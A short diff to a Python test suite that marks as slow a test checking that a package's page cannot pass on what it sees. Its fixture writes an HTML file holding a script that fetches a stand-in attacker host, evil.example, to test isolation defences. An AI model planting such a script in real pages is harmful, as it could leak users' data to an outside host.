@@ -437,6 +437,7 @@ def test_a_project_that_does_not_answer_takes_no_others_place(
     assert all(b"try again" in body for status, body in answers if status == 409)
 
 
+@pytest.mark.slow
 def test_a_package_s_page_cannot_tell_others_what_it_sees(server: StudioServer, scene: str) -> None:
     project = server.workspace.project(scene.split("/")[1])
     (project.package / "evil.html").write_text("<script>fetch('https://evil.example/')</script>")
